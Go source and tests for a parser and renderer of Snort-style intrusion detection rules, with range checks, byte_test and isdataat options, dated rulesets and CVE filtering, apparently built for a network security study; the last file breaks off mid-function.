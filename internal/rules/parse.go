package rules

import (
	"bufio"
	"fmt"
	"io"
	"regexp"
	"strconv"
	"strings"
)

// Parse parses a single rule.
func Parse(text string) (*Rule, error) {
	raw := strings.TrimSpace(text)
	open := strings.IndexByte(raw, '(')
	if open < 0 || !strings.HasSuffix(raw, ")") {
		return nil, fmt.Errorf("rules: missing option parentheses in %q", truncate(raw))
	}
	header := strings.TrimSpace(raw[:open])
	body := raw[open+1 : len(raw)-1]

	r := &Rule{Raw: raw, Metadata: map[string]string{}}
	if err := parseHeader(header, r); err != nil {
		return nil, err
	}
	if err := parseOptions(body, r); err != nil {
		return nil, fmt.Errorf("%w (rule %q)", err, truncate(raw))
	}
	if r.SID == 0 {
		return nil, fmt.Errorf("rules: rule missing sid: %q", truncate(raw))
	}
	return r, nil
}

func truncate(s string) string {
	if len(s) > 80 {
		return s[:77] + "..."
	}
	return s
}

// parseHeader parses "action proto srcaddr srcports dir dstaddr dstports".
// Bracketed lists may contain spaces, so we split fields with a
// bracket-aware scanner rather than strings.Fields.
func parseHeader(header string, r *Rule) error {
	fields := splitHeaderFields(header)
	if len(fields) != 7 {
		return fmt.Errorf("rules: header has %d fields, want 7: %q", len(fields), header)
	}
	switch Action(fields[0]) {
	case ActionAlert, ActionDrop, ActionLog, ActionPass:
		r.Action = Action(fields[0])
	default:
		return fmt.Errorf("rules: unknown action %q", fields[0])
	}
	switch Proto(fields[1]) {
	case ProtoTCP, ProtoUDP, ProtoICMP, ProtoIP:
		r.Proto = Proto(fields[1])
	default:
		return fmt.Errorf("rules: unknown protocol %q", fields[1])
	}
	var err error
	if r.SrcAddr, err = ParseAddrSpec(fields[2]); err != nil {
		return err
	}
	if r.SrcPorts, err = ParsePortSpec(fields[3]); err != nil {
		return err
	}
	switch fields[4] {
	case "->":
		r.Dir = DirToServer
	case "<>":
		r.Dir = DirBidirectional
	default:
		return fmt.Errorf("rules: unknown direction %q", fields[4])
	}
	if r.DstAddr, err = ParseAddrSpec(fields[5]); err != nil {
		return err
	}
	if r.DstPorts, err = ParsePortSpec(fields[6]); err != nil {
		return err
	}
	return nil
}

// splitHeaderFields splits on whitespace outside brackets.
func splitHeaderFields(s string) []string {
	var fields []string
	depth := 0
	start := -1
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == '[':
			depth++
		case c == ']':
			depth--
		}
		if c == ' ' || c == '\t' {
			if depth == 0 && start >= 0 {
				fields = append(fields, s[start:i])
				start = -1
			}
			continue
		}
		if start < 0 {
			start = i
		}
	}
	if start >= 0 {
		fields = append(fields, s[start:])
	}
	return fields
}

// option is one "key" or "key:value" pair from the rule body.
type option struct {
	key   string
	value string
}

// parseOptions parses the semicolon-separated option list.
func parseOptions(body string, r *Rule) error {
	opts, err := splitOptions(body)
	if err != nil {
		return err
	}
	var lastContent *Content
	for _, o := range opts {
		switch o.key {
		case "msg":
			r.Msg = unquote(o.value)
		case "sid":
			n, err := strconv.Atoi(strings.TrimSpace(o.value))
			if err != nil {
				return fmt.Errorf("rules: bad sid %q", o.value)
			}
			r.SID = n
		case "rev":
			n, err := strconv.Atoi(strings.TrimSpace(o.value))
			if err != nil {
				return fmt.Errorf("rules: bad rev %q", o.value)
			}
			r.Rev = n
		case "gid":
			n, err := strconv.Atoi(strings.TrimSpace(o.value))
			if err != nil {
				return fmt.Errorf("rules: bad gid %q", o.value)
			}
			r.GID = n
		case "content":
			c, err := parseContent(o.value)
			if err != nil {
				return err
			}
			r.Contents = append(r.Contents, c)
			lastContent = &r.Contents[len(r.Contents)-1]
		case "nocase":
			if lastContent == nil {
				return fmt.Errorf("rules: nocase without preceding content")
			}
			lastContent.Nocase = true
		case "fast_pattern":
			if lastContent == nil {
				return fmt.Errorf("rules: fast_pattern without preceding content")
			}
			lastContent.FastPattern = true
		case "offset", "depth", "distance", "within":
			if lastContent == nil {
				return fmt.Errorf("rules: %s without preceding content", o.key)
			}
			n, err := strconv.Atoi(strings.TrimSpace(o.value))
			if err != nil {
				return fmt.Errorf("rules: bad %s %q", o.key, o.value)
			}
			// Snort bounds the positional modifiers to a 16-bit payload
			// window; values outside it are feed corruption, not intent, and
			// would silently disable the window checks downstream.
			switch o.key {
			case "offset", "depth", "within":
				if n < 0 || n > 65535 {
					return fmt.Errorf("rules: %s %d out of range [0,65535]", o.key, n)
				}
			case "distance":
				if n < -65535 || n > 65535 {
					return fmt.Errorf("rules: distance %d out of range [-65535,65535]", n)
				}
			}
			switch o.key {
			case "offset":
				lastContent.Offset = &n
			case "depth":
				lastContent.Depth = &n
			case "distance":
				lastContent.Distance = &n
			case "within":
				lastContent.Within = &n
			}
		case "http_method", "http_uri", "http_raw_uri", "http_header", "http_cookie", "http_client_body":
			if lastContent == nil {
				return fmt.Errorf("rules: %s without preceding content", o.key)
			}
			lastContent.Buffer = bufferFromKeyword(o.key)
		case "pcre":
			p, err := parsePCRE(o.value)
			if err != nil {
				return err
			}
			r.PCREs = append(r.PCREs, p)
		case "reference":
			parts := strings.SplitN(strings.TrimSpace(o.value), ",", 2)
			if len(parts) != 2 {
				return fmt.Errorf("rules: bad reference %q", o.value)
			}
			r.References = append(r.References, Reference{
				System: strings.TrimSpace(parts[0]),
				ID:     strings.TrimSpace(parts[1]),
			})
		case "flow":
			for _, f := range strings.Split(o.value, ",") {
				switch strings.TrimSpace(f) {
				case "to_server", "from_client":
					r.Flow.ToServer = true
				case "to_client", "from_server":
					r.Flow.ToClient = true
				case "established":
					r.Flow.Established = true
				case "stateless", "not_established", "no_stream", "only_stream":
					// Accepted and ignored: session-level evaluation
					// subsumes these stream qualifiers.
				default:
					return fmt.Errorf("rules: unknown flow keyword %q", f)
				}
			}
		case "metadata":
			for _, kv := range strings.Split(o.value, ",") {
				kv = strings.TrimSpace(kv)
				if kv == "" {
					continue
				}
				if i := strings.IndexByte(kv, ' '); i > 0 {
					r.Metadata[kv[:i]] = strings.TrimSpace(kv[i+1:])
				} else {
					r.Metadata[kv] = ""
				}
			}
		case "dsize":
			nt, err := ParseNumTest(o.value)
			if err != nil {
				return err
			}
			r.Dsize = &nt
		case "urilen":
			nt, err := ParseNumTest(o.value)
			if err != nil {
				return err
			}
			r.Urilen = &nt
		case "isdataat":
			d, err := ParseIsDataAt(o.value)
			if err != nil {
				return err
			}
			if d.Relative {
				if lastContent == nil {
					return fmt.Errorf("rules: relative isdataat without preceding content")
				}
				lastContent.DataAts = append(lastContent.DataAts, d)
			} else {
				r.IsDataAts = append(r.IsDataAts, d)
			}
		case "byte_test":
			bt, err := ParseByteTest(o.value)
			if err != nil {
				return err
			}
			if bt.Relative {
				if lastContent == nil {
					return fmt.Errorf("rules: relative byte_test without preceding content")
				}
				lastContent.ByteTests = append(lastContent.ByteTests, bt)
			} else {
				r.ByteTests = append(r.ByteTests, bt)
			}
		case "classtype", "priority", "service", "detection_filter", "threshold", "flowbits":
			// Recognized Snort options that do not affect this study's
			// matching semantics; recorded raw in Metadata for fidelity.
			r.Metadata["opt:"+o.key] = o.value
		default:
			return fmt.Errorf("rules: unsupported option %q", o.key)
		}
	}
	return nil
}

func bufferFromKeyword(k string) Buffer {
	switch k {
	case "http_method":
		return BufHTTPMethod
	case "http_uri":
		return BufHTTPURI
	case "http_raw_uri":
		return BufHTTPRawURI
	case "http_header":
		return BufHTTPHeader
	case "http_cookie":
		return BufHTTPCookie
	case "http_client_body":
		return BufHTTPBody
	default:
		return BufRaw
	}
}

// splitOptions splits the option body on semicolons outside quoted strings.
func splitOptions(body string) ([]option, error) {
	var opts []option
	var cur strings.Builder
	inQuote := false
	escaped := false
	flush := func() error {
		text := strings.TrimSpace(cur.String())
		cur.Reset()
		if text == "" {
			return nil
		}
		if i := strings.IndexByte(text, ':'); i >= 0 {
			opts = append(opts, option{key: strings.TrimSpace(text[:i]), value: strings.TrimSpace(text[i+1:])})
		} else {
			opts = append(opts, option{key: text})
		}
		return nil
	}
	for i := 0; i < len(body); i++ {
		c := body[i]
		if escaped {
			cur.WriteByte(c)
			escaped = false
			continue
		}
		switch c {
		case '\\':
			if inQuote {
				cur.WriteByte(c)
				escaped = true
				continue
			}
			cur.WriteByte(c)
		case '"':
			inQuote = !inQuote
			cur.WriteByte(c)
		case ';':
			if inQuote {
				cur.WriteByte(c)
				continue
			}
			if err := flush(); err != nil {
				return nil, err
			}
		default:
			cur.WriteByte(c)
		}
	}
	if inQuote {
		return nil, fmt.Errorf("rules: unterminated quote in options")
	}
	if err := flush(); err != nil {
		return nil, err
	}
	return opts, nil
}

// unquote strips surrounding quotes and resolves backslash escapes.
func unquote(s string) string {
	s = strings.TrimSpace(s)
	if len(s) >= 2 && s[0] == '"' && s[len(s)-1] == '"' {
		s = s[1 : len(s)-1]
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) {
			i++
			b.WriteByte(s[i])
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// parseContent decodes a content value: optional leading '!', then a quoted
// pattern where |..| sections are space-separated hex bytes and backslash
// escapes protect ", ;, \ and |.
func parseContent(value string) (Content, error) {
	v := strings.TrimSpace(value)
	var c Content
	if strings.HasPrefix(v, "!") {
		c.Negated = true
		v = strings.TrimSpace(v[1:])
	}
	if len(v) < 2 || v[0] != '"' || v[len(v)-1] != '"' {
		return Content{}, fmt.Errorf("rules: content pattern not quoted: %q", value)
	}
	v = v[1 : len(v)-1]
	var out []byte
	inHex := false
	var hexBuf strings.Builder
	for i := 0; i < len(v); i++ {
		ch := v[i]
		if inHex {
			if ch == '|' {
				bytesOut, err := decodeHexRun(hexBuf.String())
				if err != nil {
					return Content{}, err
				}
				out = append(out, bytesOut...)
				hexBuf.Reset()
				inHex = false
				continue
			}
			hexBuf.WriteByte(ch)
			continue
		}
		switch ch {
		case '|':
			inHex = true
		case '\\':
			if i+1 >= len(v) {
				return Content{}, fmt.Errorf("rules: dangling escape in content %q", value)
			}
			i++
			out = append(out, v[i])
		default:
			out = append(out, ch)
		}
	}
	if inHex {
		return Content{}, fmt.Errorf("rules: unterminated hex section in content %q", value)
	}
	if len(out) == 0 {
		return Content{}, fmt.Errorf("rules: empty content pattern")
	}
	c.Pattern = out
	return c, nil
}

func decodeHexRun(s string) ([]byte, error) {
	var out []byte
	for _, tok := range strings.Fields(s) {
		if len(tok) != 2 {
			return nil, fmt.Errorf("rules: bad hex byte %q", tok)
		}
		n, err := strconv.ParseUint(tok, 16, 8)
		if err != nil {
			return nil, fmt.Errorf("rules: bad hex byte %q", tok)
		}
		out = append(out, byte(n))
	}
	return out, nil
}

// parsePCRE compiles a pcre option value of the form "/expr/flags" (optional
// leading '!'). PCRE flags i, s, m translate to Go regexp flags; buffer
// flags U (uri), H (header), C (cookie), P (body), M (method) select the
// inspection buffer; R, B, O, G and others are accepted and ignored.
func parsePCRE(value string) (PCRE, error) {
	v := strings.TrimSpace(value)
	var p PCRE
	if strings.HasPrefix(v, "!") {
		p.Negated = true
		v = strings.TrimSpace(v[1:])
	}
	v = strings.TrimSpace(unquoteOnly(v))
	if len(v) < 2 || v[0] != '/' {
		return PCRE{}, fmt.Errorf("rules: pcre must be /expr/flags, got %q", value)
	}
	end := strings.LastIndexByte(v, '/')
	if end <= 0 {
		return PCRE{}, fmt.Errorf("rules: pcre missing closing slash: %q", value)
	}
	expr := v[1:end]
	flags := v[end+1:]
	var goFlags string
	for _, f := range flags {
		switch f {
		case 'i':
			goFlags += "i"
		case 's':
			goFlags += "s"
		case 'm':
			goFlags += "m"
		case 'x':
			// Extended mode is uncommon; normalize by stripping whitespace
			// is risky, so reject to surface the rule for manual handling.
			return PCRE{}, fmt.Errorf("rules: pcre /x flag unsupported: %q", value)
		case 'U':
			p.Buffer = BufHTTPURI
		case 'H':
			p.Buffer = BufHTTPHeader
		case 'C':
			p.Buffer = BufHTTPCookie
		case 'P':
			p.Buffer = BufHTTPBody
		case 'M':
			p.Buffer = BufHTTPMethod
		case 'R', 'B', 'O', 'G', 'D', 'A', 'E':
			// Positional/perf flags without an analogue in this engine.
		default:
			return PCRE{}, fmt.Errorf("rules: unknown pcre flag %q in %q", string(f), value)
		}
	}
	full := expr
	if goFlags != "" {
		full = "(?" + goFlags + ")" + expr
	}
	re, err := regexp.Compile(full)
	if err != nil {
		return PCRE{}, fmt.Errorf("rules: pcre %q: %w", value, err)
	}
	p.Expr = v
	p.Re = re
	return p, nil
}

// unquoteOnly strips one level of surrounding double quotes without escape
// processing (pcre bodies keep their backslashes).
func unquoteOnly(s string) string {
	if len(s) >= 2 && s[0] == '"' && s[len(s)-1] == '"' {
		return s[1 : len(s)-1]
	}
	return s
}

// ParseRuleset reads a rules file: one rule per line, with '#' comments and
// blank lines skipped. It returns all rules plus per-line errors wrapped
// with line numbers; parsing continues past bad lines so a single malformed
// rule does not discard a ruleset.
func ParseRuleset(r io.Reader) ([]*Rule, []error) {
	var out []*Rule
	var errs []error
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		rule, err := Parse(line)
		if err != nil {
			errs = append(errs, fmt.Errorf("line %d: %w", lineNo, err))
			continue
		}
		out = append(out, rule)
	}
	if err := sc.Err(); err != nil {
		errs = append(errs, fmt.Errorf("rules: reading ruleset: %w", err))
	}
	return out, errs
}
