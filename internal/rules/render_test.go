package rules

import (
	"bytes"
	"testing"
	"testing/quick"
)

// equivalentRules compares the semantic fields of two rules (Raw differs by
// construction).
func equivalentRules(t *testing.T, a, b *Rule) {
	t.Helper()
	if a.Action != b.Action || a.Proto != b.Proto || a.Dir != b.Dir {
		t.Errorf("header mismatch: %v/%v/%v vs %v/%v/%v", a.Action, a.Proto, a.Dir, b.Action, b.Proto, b.Dir)
	}
	if a.Msg != b.Msg || a.SID != b.SID || a.Rev != b.Rev {
		t.Errorf("identity mismatch: %q/%d/%d vs %q/%d/%d", a.Msg, a.SID, a.Rev, b.Msg, b.SID, b.Rev)
	}
	if a.SrcPorts.String() != b.SrcPorts.String() || a.DstPorts.String() != b.DstPorts.String() {
		t.Errorf("ports mismatch: %s/%s vs %s/%s", a.SrcPorts, a.DstPorts, b.SrcPorts, b.DstPorts)
	}
	if a.Flow != b.Flow {
		t.Errorf("flow mismatch: %+v vs %+v", a.Flow, b.Flow)
	}
	if len(a.Contents) != len(b.Contents) {
		t.Fatalf("content count %d vs %d", len(a.Contents), len(b.Contents))
	}
	for i := range a.Contents {
		ca, cb := a.Contents[i], b.Contents[i]
		if !bytes.Equal(ca.Pattern, cb.Pattern) {
			t.Errorf("content %d pattern %q vs %q", i, ca.Pattern, cb.Pattern)
		}
		if ca.Negated != cb.Negated || ca.Nocase != cb.Nocase || ca.Buffer != cb.Buffer || ca.FastPattern != cb.FastPattern {
			t.Errorf("content %d modifiers differ: %+v vs %+v", i, ca, cb)
		}
		if (ca.Offset == nil) != (cb.Offset == nil) || (ca.Offset != nil && *ca.Offset != *cb.Offset) {
			t.Errorf("content %d offset differs", i)
		}
		if len(ca.ByteTests) != len(cb.ByteTests) || len(ca.DataAts) != len(cb.DataAts) {
			t.Errorf("content %d assertions differ", i)
		}
	}
	if len(a.PCREs) != len(b.PCREs) {
		t.Fatalf("pcre count %d vs %d", len(a.PCREs), len(b.PCREs))
	}
	for i := range a.PCREs {
		if a.PCREs[i].Expr != b.PCREs[i].Expr || a.PCREs[i].Negated != b.PCREs[i].Negated ||
			a.PCREs[i].Buffer != b.PCREs[i].Buffer {
			t.Errorf("pcre %d differs: %+v vs %+v", i, a.PCREs[i], b.PCREs[i])
		}
	}
	if len(a.References) != len(b.References) {
		t.Errorf("references %d vs %d", len(a.References), len(b.References))
	}
}

func TestRenderRoundTripBasic(t *testing.T) {
	texts := []string{
		log4shellRule,
		`alert tcp any any -> any 445 (msg:"hex"; content:"|90 90|AB|00|"; sid:1;)`,
		`alert tcp any any -> any any (msg:"esc \"x\""; content:"a\;b\"c"; nocase; sid:2;)`,
		`alert tcp any any -> any any (msg:"pos"; content:"GET"; offset:0; depth:3; content:"/x"; distance:1; within:20; sid:3;)`,
		`alert tcp any any -> any any (msg:"neg"; content:!"benign"; pcre:!"/ok/i"; sid:4;)`,
		`alert tcp any [80,443] <> any 8000:8100 (msg:"lists"; content:"q"; sid:5;)`,
		`alert tcp any any -> any any (msg:"sz"; dsize:>512; urilen:5<>100; isdataat:1000; content:"p"; isdataat:50,relative; byte_test:2,>,64,0,relative; sid:6;)`,
	}
	for _, text := range texts {
		orig, err := Parse(text)
		if err != nil {
			t.Fatalf("Parse(%q): %v", text, err)
		}
		rendered := orig.Render()
		back, err := Parse(rendered)
		if err != nil {
			t.Fatalf("reparse of rendered rule failed: %v\nrendered: %s", err, rendered)
		}
		equivalentRules(t, orig, back)
	}
}

// Property: arbitrary binary content patterns survive render + reparse.
func TestRenderPatternRoundTripProperty(t *testing.T) {
	f := func(pattern []byte) bool {
		if len(pattern) == 0 {
			return true
		}
		if len(pattern) > 64 {
			pattern = pattern[:64]
		}
		r := &Rule{
			Action: ActionAlert, Proto: ProtoTCP,
			SrcAddr: AnyAddr(), SrcPorts: AnyPorts(),
			DstAddr: AnyAddr(), DstPorts: AnyPorts(),
			Msg: "prop", SID: 99,
			Contents: []Content{{Pattern: pattern}},
			Metadata: map[string]string{},
		}
		back, err := Parse(r.Render())
		if err != nil {
			return false
		}
		return bytes.Equal(back.Contents[0].Pattern, pattern)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestEncodePattern(t *testing.T) {
	cases := []struct {
		in   []byte
		want string
	}{
		{[]byte("abc"), "abc"},
		{[]byte{0x90, 0x90}, "|90 90|"},
		{[]byte("a\x00b"), "a|00|b"},
		{[]byte(`q"x`), `q\"x`},
		{[]byte("a;b"), `a\;b`},
		{[]byte("p|q"), `p\|q`},
	}
	for _, c := range cases {
		if got := encodePattern(c.in); got != c.want {
			t.Errorf("encodePattern(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}
