package rules

import (
	"fmt"
	"strconv"
	"strings"
)

// NumTest is a numeric comparison used by size-testing options (dsize,
// urilen): exact, less-than, greater-than, or an exclusive range N<>M.
type NumTest struct {
	// Op is one of "=", "<", ">", "<>".
	Op string
	Lo int
	Hi int
}

// Matches applies the test to n.
func (t NumTest) Matches(n int) bool {
	switch t.Op {
	case "<":
		return n < t.Lo
	case ">":
		return n > t.Lo
	case "<>":
		return n > t.Lo && n < t.Hi
	default:
		return n == t.Lo
	}
}

// String renders the test in rule syntax.
func (t NumTest) String() string {
	switch t.Op {
	case "<", ">":
		return t.Op + strconv.Itoa(t.Lo)
	case "<>":
		return fmt.Sprintf("%d<>%d", t.Lo, t.Hi)
	default:
		return strconv.Itoa(t.Lo)
	}
}

// ParseNumTest parses "N", "<N", ">N", or "N<>M".
func ParseNumTest(s string) (NumTest, error) {
	v := strings.TrimSpace(s)
	if v == "" {
		return NumTest{}, fmt.Errorf("rules: empty numeric test")
	}
	if i := strings.Index(v, "<>"); i >= 0 {
		lo, err1 := strconv.Atoi(strings.TrimSpace(v[:i]))
		hi, err2 := strconv.Atoi(strings.TrimSpace(v[i+2:]))
		if err1 != nil || err2 != nil || lo > hi {
			return NumTest{}, fmt.Errorf("rules: bad range test %q", s)
		}
		return NumTest{Op: "<>", Lo: lo, Hi: hi}, nil
	}
	op := "="
	switch v[0] {
	case '<':
		op = "<"
		v = strings.TrimSpace(v[1:])
	case '>':
		op = ">"
		v = strings.TrimSpace(v[1:])
	}
	n, err := strconv.Atoi(v)
	if err != nil || n < 0 {
		return NumTest{}, fmt.Errorf("rules: bad numeric test %q", s)
	}
	return NumTest{Op: op, Lo: n}, nil
}

// IsDataAt is the isdataat option: requires that data exists at the given
// offset, optionally relative to the previous content match, optionally
// negated ("!N,relative" asserts data does NOT extend that far).
type IsDataAt struct {
	Offset   int
	Relative bool
	Negated  bool
}

// ParseIsDataAt parses "N[,relative]" with optional leading '!'.
func ParseIsDataAt(s string) (IsDataAt, error) {
	v := strings.TrimSpace(s)
	var d IsDataAt
	if strings.HasPrefix(v, "!") {
		d.Negated = true
		v = strings.TrimSpace(v[1:])
	}
	parts := strings.Split(v, ",")
	n, err := strconv.Atoi(strings.TrimSpace(parts[0]))
	if err != nil || n < 0 {
		return IsDataAt{}, fmt.Errorf("rules: bad isdataat %q", s)
	}
	d.Offset = n
	for _, p := range parts[1:] {
		switch strings.TrimSpace(p) {
		case "relative":
			d.Relative = true
		case "rawbytes":
			// Accepted; this engine always inspects raw reassembled bytes.
		default:
			return IsDataAt{}, fmt.Errorf("rules: unknown isdataat modifier %q", p)
		}
	}
	return d, nil
}
