package rules

import (
	"fmt"
	"strings"
)

// Render reconstructs canonical rule text from the AST. The output parses
// back to an equivalent rule (Parse(r.Render()) matches the same traffic),
// which the test suite verifies over the whole study ruleset. Option order
// follows Snort convention: msg, flow, detection options in original
// order-relevant sequence, size tests, references, metadata, sid/rev.
func (r *Rule) Render() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s %s %s %s %s %s (",
		r.Action, r.Proto, r.SrcAddr.String(), r.SrcPorts.String(),
		r.Dir.String(), r.DstAddr.String(), r.DstPorts.String())

	if r.Msg != "" {
		fmt.Fprintf(&b, "msg:\"%s\"; ", escapeOption(r.Msg))
	}
	if flow := renderFlow(r.Flow); flow != "" {
		fmt.Fprintf(&b, "flow:%s; ", flow)
	}
	for i := range r.Contents {
		renderContent(&b, &r.Contents[i])
	}
	for _, p := range r.PCREs {
		if p.Negated {
			fmt.Fprintf(&b, "pcre:!\"%s\"; ", p.Expr)
		} else {
			fmt.Fprintf(&b, "pcre:\"%s\"; ", p.Expr)
		}
	}
	if r.Dsize != nil {
		fmt.Fprintf(&b, "dsize:%s; ", r.Dsize.String())
	}
	if r.Urilen != nil {
		fmt.Fprintf(&b, "urilen:%s; ", r.Urilen.String())
	}
	for _, d := range r.IsDataAts {
		fmt.Fprintf(&b, "isdataat:%s; ", renderIsDataAt(d))
	}
	for _, bt := range r.ByteTests {
		fmt.Fprintf(&b, "byte_test:%s; ", bt.render())
	}
	for _, ref := range r.References {
		fmt.Fprintf(&b, "reference:%s,%s; ", ref.System, ref.ID)
	}
	fmt.Fprintf(&b, "sid:%d; ", r.SID)
	if r.Rev > 0 {
		fmt.Fprintf(&b, "rev:%d; ", r.Rev)
	}
	if r.GID > 0 {
		fmt.Fprintf(&b, "gid:%d; ", r.GID)
	}
	out := strings.TrimRight(b.String(), " ")
	return out + ")"
}

func renderFlow(f FlowOpts) string {
	var parts []string
	if f.ToServer {
		parts = append(parts, "to_server")
	}
	if f.ToClient {
		parts = append(parts, "to_client")
	}
	if f.Established {
		parts = append(parts, "established")
	}
	return strings.Join(parts, ",")
}

func renderContent(b *strings.Builder, c *Content) {
	b.WriteString("content:")
	if c.Negated {
		b.WriteString("!")
	}
	fmt.Fprintf(b, "\"%s\"; ", encodePattern(c.Pattern))
	if c.Nocase {
		b.WriteString("nocase; ")
	}
	if c.FastPattern {
		b.WriteString("fast_pattern; ")
	}
	if c.Offset != nil {
		fmt.Fprintf(b, "offset:%d; ", *c.Offset)
	}
	if c.Depth != nil {
		fmt.Fprintf(b, "depth:%d; ", *c.Depth)
	}
	if c.Distance != nil {
		fmt.Fprintf(b, "distance:%d; ", *c.Distance)
	}
	if c.Within != nil {
		fmt.Fprintf(b, "within:%d; ", *c.Within)
	}
	if c.Buffer != BufRaw {
		fmt.Fprintf(b, "%s; ", c.Buffer)
	}
	for _, d := range c.DataAts {
		fmt.Fprintf(b, "isdataat:%s; ", renderIsDataAt(d))
	}
	for _, bt := range c.ByteTests {
		fmt.Fprintf(b, "byte_test:%s; ", bt.render())
	}
}

func renderIsDataAt(d IsDataAt) string {
	s := ""
	if d.Negated {
		s = "!"
	}
	s += fmt.Sprintf("%d", d.Offset)
	if d.Relative {
		s += ",relative"
	}
	return s
}

// encodePattern renders pattern bytes in content syntax: printable ASCII
// stays literal (with specials escaped), everything else becomes a |xx|
// hex section.
func encodePattern(pattern []byte) string {
	var b strings.Builder
	inHex := false
	for _, c := range pattern {
		printable := c >= 0x20 && c < 0x7f
		if printable && c != '|' && c != '"' && c != ';' && c != '\\' && c != ':' {
			if inHex {
				b.WriteString("|")
				inHex = false
			}
			b.WriteByte(c)
			continue
		}
		if printable {
			// Escapable special character.
			if inHex {
				b.WriteString("|")
				inHex = false
			}
			b.WriteByte('\\')
			b.WriteByte(c)
			continue
		}
		if !inHex {
			b.WriteString("|")
			inHex = true
		} else {
			b.WriteString(" ")
		}
		fmt.Fprintf(&b, "%02x", c)
	}
	if inHex {
		b.WriteString("|")
	}
	return b.String()
}

// escapeOption escapes msg-style option text.
func escapeOption(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	s = strings.ReplaceAll(s, `"`, `\"`)
	s = strings.ReplaceAll(s, `;`, `\;`)
	return s
}
