package rules

import (
	"bytes"
	"strings"
	"testing"
	"time"
)

func TestDatedRulesetRoundTrip(t *testing.T) {
	r1, _ := Parse(`alert tcp any any -> any any (msg:"one"; content:"a"; sid:100;)`)
	r2, _ := Parse(`alert tcp any any -> any 8090 (msg:"two"; content:"b"; sid:101;)`)
	in := []DatedRule{
		{Rule: r1, Published: time.Date(2021, 12, 10, 9, 0, 0, 0, time.UTC)},
		{Rule: r2, Published: NeverPublishedSentinel},
	}
	var buf bytes.Buffer
	if err := WriteDatedRuleset(&buf, in); err != nil {
		t.Fatal(err)
	}
	got, errs := ParseDatedRuleset(bytes.NewReader(buf.Bytes()))
	if len(errs) != 0 {
		t.Fatalf("errors: %v", errs)
	}
	if len(got) != 2 {
		t.Fatalf("rules = %d", len(got))
	}
	if !got[0].Published.Equal(in[0].Published) || got[0].Rule.SID != 100 {
		t.Errorf("rule 0 = %v sid %d", got[0].Published, got[0].Rule.SID)
	}
	if !got[1].Published.Equal(NeverPublishedSentinel) {
		t.Errorf("sentinel not preserved: %v", got[1].Published)
	}
}

func TestDatedRulesetErrors(t *testing.T) {
	input := `
# published: notadate
alert tcp any any -> any any (msg:"x"; content:"a"; sid:1;)
alert tcp any any -> any any (msg:"nodate"; content:"b"; sid:2;)
# published: 2021-12-10T09:00:00Z
not a rule at all
# published: 2021-12-10T09:00:00Z
alert tcp any any -> any any (msg:"good"; content:"c"; sid:3;)
# a plain comment is fine
`
	got, errs := ParseDatedRuleset(strings.NewReader(input))
	if len(got) != 1 || got[0].Rule.SID != 3 {
		t.Fatalf("got %d rules: %+v", len(got), got)
	}
	// bad date, dateless rule (x2: sid 1 follows failed date, sid 2 has none), bad rule text
	if len(errs) != 4 {
		t.Fatalf("errors = %d: %v", len(errs), errs)
	}
}
