package rules

// FilterByCVE returns the dated rules whose CVE references satisfy keep.
// Rules without any CVE reference are dropped (the study analyzes CVE-
// attributed traffic only). This is the paper's Section 3.1 step: "We
// filter signatures to those matching CVEs published during the study
// period."
func FilterByCVE(rs []DatedRule, keep func(cve string) bool) []DatedRule {
	var out []DatedRule
	for _, dr := range rs {
		for _, cve := range dr.Rule.CVEs() {
			if keep(cve) {
				out = append(out, dr)
				break
			}
		}
	}
	return out
}
