package rules

import (
	"fmt"
	"strconv"
	"strings"
)

// ByteTest is the byte_test option: read Count bytes at Offset (optionally
// relative to the previous content match), interpret them as an unsigned
// integer (big-endian binary by default, or ASCII when String is set), and
// compare against Value with Op.
type ByteTest struct {
	// Count is how many bytes to read (1–8 binary; up to 20 for string).
	Count int
	// Op is one of "<", ">", "=", "<=", ">=", "&" (bitwise-and nonzero),
	// "^" (bitwise-xor nonzero). Negated inverts the result.
	Op      string
	Negated bool
	// Value is the comparison operand.
	Value uint64
	// Offset of the read.
	Offset int
	// Relative anchors Offset at the end of the previous content match.
	Relative bool
	// String interprets the bytes as ASCII digits in the given base.
	String bool
	// Base is 10, 16, or 8 (string mode only).
	Base int
	// LittleEndian flips binary byte order.
	LittleEndian bool
}

// validOps are the accepted comparison operators.
var validOps = map[string]bool{"<": true, ">": true, "=": true, "<=": true, ">=": true, "&": true, "^": true}

// ParseByteTest parses
// "count, [!]op, value, offset[, relative][, string, dec|hex|oct][, little|big]".
func ParseByteTest(s string) (ByteTest, error) {
	parts := strings.Split(s, ",")
	if len(parts) < 4 {
		return ByteTest{}, fmt.Errorf("rules: byte_test needs at least 4 fields: %q", s)
	}
	var bt ByteTest
	var err error
	bt.Count, err = strconv.Atoi(strings.TrimSpace(parts[0]))
	if err != nil || bt.Count < 1 {
		return ByteTest{}, fmt.Errorf("rules: byte_test count %q", parts[0])
	}
	op := strings.TrimSpace(parts[1])
	if strings.HasPrefix(op, "!") {
		bt.Negated = true
		op = strings.TrimSpace(op[1:])
		if op == "" {
			op = "=" // bare "!" means "not equal"
		}
	}
	if !validOps[op] {
		return ByteTest{}, fmt.Errorf("rules: byte_test operator %q", parts[1])
	}
	bt.Op = op
	valueStr := strings.TrimSpace(parts[2])
	bt.Value, err = strconv.ParseUint(strings.TrimPrefix(valueStr, "0x"), base(valueStr), 64)
	if err != nil {
		return ByteTest{}, fmt.Errorf("rules: byte_test value %q", parts[2])
	}
	bt.Offset, err = strconv.Atoi(strings.TrimSpace(parts[3]))
	if err != nil {
		return ByteTest{}, fmt.Errorf("rules: byte_test offset %q", parts[3])
	}
	bt.Base = 10
	for _, p := range parts[4:] {
		switch strings.TrimSpace(p) {
		case "relative":
			bt.Relative = true
		case "string":
			bt.String = true
		case "dec":
			bt.Base = 10
		case "hex":
			bt.Base = 16
		case "oct":
			bt.Base = 8
		case "little":
			bt.LittleEndian = true
		case "big":
			bt.LittleEndian = false
		default:
